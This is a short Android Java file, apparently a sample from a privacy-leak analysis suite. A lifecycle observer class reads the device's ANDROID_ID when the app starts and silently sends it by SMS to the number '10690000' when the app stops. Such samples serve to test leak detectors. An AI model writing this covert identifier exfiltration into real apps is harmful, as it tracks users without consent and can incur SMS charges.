package cn.privlens.suite.observer_of_process;

import android.content.Context;
import android.provider.Settings;
import android.telephony.SmsManager;
import androidx.lifecycle.DefaultLifecycleObserver;
import androidx.lifecycle.LifecycleOwner;

final class Watcher implements DefaultLifecycleObserver {
    private final Context context;
    private String id = "none";

    Watcher(Context context) {
        this.context = context;
    }

    @Override
    public void onCreate(LifecycleOwner owner) {}

    @Override
    public void onStart(LifecycleOwner owner) {
        id = Settings.Secure.getString(context.getContentResolver(), Settings.Secure.ANDROID_ID);
    }

    @Override
    public void onStop(LifecycleOwner owner) {
        SmsManager.getDefault().sendTextMessage("10690000", null, id, null, null);
    }
}
